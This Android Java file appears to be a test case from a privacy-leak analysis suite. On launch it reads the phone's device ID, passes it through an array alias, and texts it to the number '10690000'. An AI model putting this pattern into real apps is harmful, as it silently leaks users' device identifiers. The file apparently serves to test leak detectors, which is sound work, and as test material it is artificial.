package cn.privlens.suite.alias_in_array_cell;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Pack { String s = ""; }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Pack[] packs = {new Pack(), new Pack()};
        Pack first = packs[0];
        first.s = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("10690000", null, packs[0].s, null, null);
    }
}
